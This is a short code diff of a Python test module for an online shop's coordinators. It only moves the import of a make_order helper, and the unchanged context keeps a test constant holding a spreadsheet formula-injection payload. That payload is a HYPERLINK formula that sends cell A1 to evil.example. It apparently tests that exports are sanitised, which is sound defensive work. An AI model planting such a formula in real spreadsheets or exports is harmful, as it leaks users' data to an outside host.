@@ -15,9 +15,8 @@ from shop.coordinators.models import AuditAction, AuditEntry
 from shop.extensions import db
 from shop.groups.models import Programme
 from shop.orders.models import OrderStatus, PaymentStatus
-from tests.factories import GroupFactory, ProductFactory
+from tests.factories import GroupFactory, ProductFactory, make_order
 from tests.functional.coordinators.test_monitoring import consign_recently
-from tests.functional.orders.conftest import make_order
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 
